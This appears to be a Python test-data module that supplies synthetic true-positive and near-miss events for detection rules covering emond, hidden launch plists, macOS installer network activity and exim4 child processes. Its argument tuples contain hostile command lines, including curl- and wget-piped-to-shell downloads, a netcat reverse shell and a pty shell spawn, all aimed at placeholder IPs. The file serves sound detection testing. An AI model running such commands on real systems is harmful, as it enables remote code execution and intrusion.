"""The true-positive and near-miss variants of each seed rule, as data.

A true-positive variant is ``(case, ..., timing)`` where timing is ``"window"`` (inside
now-9m..now), ``"no_ingested"`` (inside, without ``event.ingested``) or ``"late"``
(``@timestamp`` before the window but ``event.ingested`` inside it: a laptop that was
offline; the rules window on ``event.ingested`` so it must alert).  Variants are used in
order and then cycled, so the first few (what the demo gets) are the most telling.
"""

from __future__ import annotations

from typing import Final

Args = tuple[str, ...]

PY_FRAMEWORK: Final = (
    "/Library/Frameworks/Python.framework/Versions/3.11/Resources/Python.app/Contents/MacOS/Python"
)

# -- Suspicious Emond Child Process --------------------------------------------------------
# (case, executable, args, timing); process.name is the executable's last component.
EMOND_TRUE_POSITIVES: Final[tuple[tuple[str, str, Args, str], ...]] = (
    (
        "shell",
        "/bin/bash",
        ("/bin/bash", "-c", "curl -fsSL http://203.0.113.45/u.sh | sh"),
        "window",
    ),
    ("mixed_case_python", PY_FRAMEWORK, ("Python", "/Users/Shared/.u/agent.py"), "window"),
    (
        "no_ingested",
        "/usr/bin/osascript",
        ("osascript", "-e", 'do shell script "id"'),
        "no_ingested",
    ),
    (
        "late_arrival",
        "/bin/launchctl",
        ("launchctl", "load", "-w", "/Library/LaunchDaemons/com.u.plist"),
        "late",
    ),
    ("uppercase_python3", "/private/tmp/.t/PYTHON3", ("PYTHON3", "-c", "import os"), "window"),
    ("perl_wildcard", "/usr/bin/perl5.30", ("perl5.30", "-e", "print 1"), "window"),
    ("curl", "/usr/bin/curl", ("curl", "-so", "/tmp/.x", "http://203.0.113.45/x"), "window"),
    ("sh", "/bin/sh", ("sh", "-c", "/tmp/.x"), "window"),
    ("zsh", "/bin/zsh", ("zsh", "-c", "id"), "window"),
    ("php_wildcard", "/opt/homebrew/bin/php8.3", ("php8.3", "-r", "system('id');"), "window"),
    ("base64", "/usr/bin/base64", ("base64", "-d", "-i", "/tmp/.p"), "window"),
    ("touch", "/usr/bin/touch", ("touch", "/tmp/.emond_ran"), "window"),
    ("echo", "/bin/echo", ("echo", "ok"), "window"),
    ("cp", "/bin/cp", ("cp", "/tmp/.x", "/usr/local/bin/.x"), "window"),
    ("mv", "/bin/mv", ("mv", "/tmp/.x", "/Users/Shared/.x"), "window"),
    ("wget", "/opt/homebrew/bin/wget", ("wget", "-q", "http://203.0.113.45/w"), "window"),
    ("pwsh", "/usr/local/bin/pwsh", ("pwsh", "-c", "whoami"), "window"),
    ("tcsh", "/bin/tcsh", ("tcsh", "-c", "id"), "window"),
    ("csh", "/bin/csh", ("csh", "-c", "id"), "window"),
    ("ksh", "/bin/ksh", ("ksh", "-c", "id"), "window"),
    ("dash", "/bin/dash", ("dash", "-c", "id"), "window"),
    ("fish", "/opt/homebrew/bin/fish", ("fish", "-c", "id"), "window"),
    ("Bash_mixed_case", "/private/tmp/Bash", ("Bash", "-c", "id"), "window"),
)
# Near miss "name_not_listed": no pattern matches the whole name ("bash5" is not "bash").
EMOND_OTHER_CHILDREN: Final[tuple[tuple[str, Args], ...]] = (
    ("/bin/ls", ("ls", "-la", "/etc/emond.d/rules")),
    ("/usr/bin/ruby", ("ruby", "-e", "puts 1")),
    ("/opt/homebrew/bin/bash5", ("bash5", "-c", "id")),
    ("/usr/local/bin/node", ("node", "/tmp/x.js")),
    ("/usr/bin/say", ("say", "hello")),
)

# -- Creation of Hidden Launch Agent or Daemon ---------------------------------------------
# (case, path, event.action, timing); {user} is the host's user.
HIDDEN_PLIST_TRUE_POSITIVES: Final[tuple[tuple[str, str, str, str], ...]] = (
    (
        "library_launchagents",
        "/Library/LaunchAgents/.com.apple.softwareupdate.plist",
        "creation",
        "window",
    ),
    (
        "user_launchagents",
        "/Users/{user}/Library/LaunchAgents/.com.google.keystone.plist",
        "creation",
        "window",
    ),
    (
        "no_ingested",
        "/Library/LaunchDaemons/.com.adobe.acc.installer.plist",
        "creation",
        "no_ingested",
    ),
    ("late_arrival", "/Library/LaunchDaemons/.com.microsoft.autoupdate.plist", "creation", "late"),
    ("rename", "/Library/LaunchAgents/.Helper.plist", "rename", "window"),
    ("mixed_case", "/library/launchagents/.Com.Apple.Update.PLIST", "creation", "window"),
    ("modification", "/Users/{user}/Library/LaunchAgents/.agent.plist", "modification", "window"),
    (
        "system_launchdaemons",
        "/System/Library/LaunchDaemons/.com.apple.xpc.plist",
        "creation",
        "window",
    ),
    (
        "system_launchagents",
        "/System/Library/LaunchAgents/.com.apple.sync.plist",
        "overwrite",
        "window",
    ),
)
HIDDEN_PLIST_DIRS: Final = (
    "/Library/LaunchAgents",
    "/Library/LaunchDaemons",
    "/Users/{user}/Library/LaunchAgents",
    "/System/Library/LaunchAgents",
    "/System/Library/LaunchDaemons",
)
# Programs that drop the plist: (executable, args); {path} is the plist.
PLIST_WRITERS: Final[tuple[tuple[str, Args], ...]] = (
    ("/bin/cp", ("cp", "/private/tmp/a.plist", "{path}")),
    ("/usr/bin/curl", ("curl", "-so", "{path}", "http://203.0.113.9/p.plist")),
    ("/Users/Shared/.updater/updater", ("/Users/Shared/.updater/updater", "--install")),
    ("/usr/bin/plutil", ("plutil", "-convert", "xml1", "{path}")),
    ("/usr/bin/python3", ("python3", "/private/tmp/.i.py")),
)
# Near miss "other_directory": hidden plists where the rule does not look.
HIDDEN_PLIST_OTHER_PATHS: Final = (
    "/Library/Application Support/.com.vendor.agent.plist",
    "/Users/{user}/Library/Preferences/.com.vendor.agent.plist",
    "/private/var/root/Library/LaunchAgents/.com.vendor.agent.plist",
    "/Library/LaunchAgents/Backup/.com.vendor.agent.plist",
)
PLIST_VENDORS: Final = (
    "google.keystone.agent",
    "microsoft.update.agent",
    "zoom.updater",
    "docker.vmnetd",
)

# -- MacOS Installer Package Spawns Network Event --------------------------------------------
# (case, installer kind, script interpreter, network program, timing)
INSTALLER_TRUE_POSITIVES: Final[tuple[tuple[str, str, str, str, str], ...]] = (
    ("postinstall_sh_curl", "installer", "/bin/sh", "/usr/bin/curl", "window"),
    (
        "package_script_service_bash",
        "package_script_service",
        "/bin/bash",
        "/usr/bin/curl",
        "window",
    ),
    ("zsh_osascript", "installer", "/bin/zsh", "/usr/bin/osascript", "window"),
    ("mixed_case_python", "package_script_service", PY_FRAMEWORK, "/usr/bin/curl", "window"),
    ("tclsh_wildcard", "installer", "/usr/bin/tclsh8.6", "/opt/homebrew/bin/wget", "window"),
    ("no_ingested", "package_script_service", "/bin/sh", "/usr/bin/ruby", "no_ingested"),
    ("python_java", "installer", "/usr/bin/python", "/usr/bin/java", "window"),
    (
        "osascript_node",
        "package_script_service",
        "/usr/bin/osascript",
        "/usr/local/bin/node",
        "window",
    ),
)
INSTALLER = "/usr/sbin/installer"
PACKAGE_SCRIPT_SERVICE: Final = (
    "/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/Resources/"
    "package_script_service"
)
SYSTEM_INSTALLD: Final = (
    "/System/Library/PrivateFrameworks/PackageKit.framework/Resources/system_installd"
)
NETWORK_ARGS: Final[dict[str, Args]] = {
    "curl": ("curl", "-fsSL", "-o", "/tmp/.i", "http://203.0.113.77/stage2"),
    "osascript": ("osascript", "-l", "JavaScript", "/tmp/.s.js"),
    "wget": ("wget", "-q", "-O", "/tmp/.i", "http://203.0.113.77/stage2"),
    "ruby": ("ruby", "-rnet/http", "-e", "Net::HTTP.get(URI('http://203.0.113.77/'))"),
    "java": ("java", "-jar", "/tmp/.u.jar"),
    "node": ("node", "/tmp/.u.js"),
    "python3": ("python3", "-c", "import urllib.request"),
}
PACKAGES: Final = ("ZoomInstaller", "GoogleChrome", "VendorAgent", "Slack", "VPNClient")

# -- Unusual Exim4 Child Process -----------------------------------------------------------
# (case, executable, args, timing)
EXIM4_TRUE_POSITIVES: Final[tuple[tuple[str, str, Args, str], ...]] = (
    ("shell", "/bin/sh", ("/bin/sh", "-c", "wget -qO- http://198.51.100.23/k.sh | sh"), "window"),
    (
        "downloader",
        "/usr/bin/wget",
        ("wget", "-q", "http://198.51.100.23/k", "-O", "/tmp/.k"),
        "window",
    ),
    (
        "no_ingested",
        "/usr/bin/curl",
        ("curl", "-s", "http://198.51.100.23/p", "-o", "/dev/shm/.p"),
        "no_ingested",
    ),
    ("case_sensitive_name", "/tmp/.ssh/SSHD", ("/tmp/.ssh/SSHD", "-D"), "window"),
    ("perl", "/usr/bin/perl", ("perl", "-e", "use Socket;"), "window"),
    (
        "python",
        "/usr/bin/python3.11",
        ("python3", "-c", "import pty;pty.spawn('/bin/sh')"),
        "window",
    ),
    ("bash", "/usr/bin/bash", ("bash", "-i"), "window"),
    ("netcat", "/usr/bin/nc.openbsd", ("nc", "198.51.100.23", "4444", "-e", "/bin/sh"), "window"),
    ("late_arrival", "/usr/bin/base64", ("base64", "-d", "/tmp/.b"), "late"),
)
DROPPED_NAMES: Final = ("kworker", "kdevtmpfsi", "xmrig", ".x", "dbused", "systemd-udev")
# exim4 children with names the rule excludes (near miss "excluded_name").
EXIM4_EXCLUDED_CHILDREN: Final[tuple[tuple[str, Args], ...]] = (
    ("/usr/bin/sort", ("sort", "-u")),
    (
        "/usr/bin/grep",
        ("grep", "-q", "dc_eximconfig_configtype", "/etc/exim4/update-exim4.conf.conf"),
    ),
    ("/usr/sbin/sshd", ("sshd", "-t")),
    ("/usr/bin/run-parts", ("run-parts", "/etc/exim4/conf.d")),
    ("/sbin/start-stop-daemon", ("start-stop-daemon", "--stop", "--quiet", "--name", "exim4")),
    ("/usr/sbin/update-exim4.conf", ("update-exim4.conf",)),
    ("/usr/bin/readlink", ("readlink", "-f", "/usr/sbin/exim4")),
    ("/usr/bin/stat", ("stat", "-c", "%U", "/var/spool/exim4")),
    ("/usr/bin/systemctl", ("systemctl", "reload", "exim4")),
    ("/usr/bin/install", ("install", "-d", "/run/exim4")),
    ("/usr/sbin/exim4", ("/usr/sbin/exim4", "-q")),
)
# Executables exim4 runs routinely: seen over the history window, so never new.
EXIM4_HISTORY: Final[tuple[tuple[str, Args], ...]] = (
    ("/usr/bin/procmail", ("procmail", "-d", "admin")),
    ("/usr/bin/spamc", ("spamc", "-u", "debian-spamd")),
    ("/usr/lib/dovecot/deliver", ("/usr/lib/dovecot/deliver", "-d", "admin")),
    ("/usr/sbin/exim_tidydb", ("exim_tidydb", "/var/spool/exim4", "retry")),
    ("/usr/bin/mailx", ("mailx", "-s", "report", "root")),
    ("/usr/bin/vacation", ("vacation", "admin")),
)
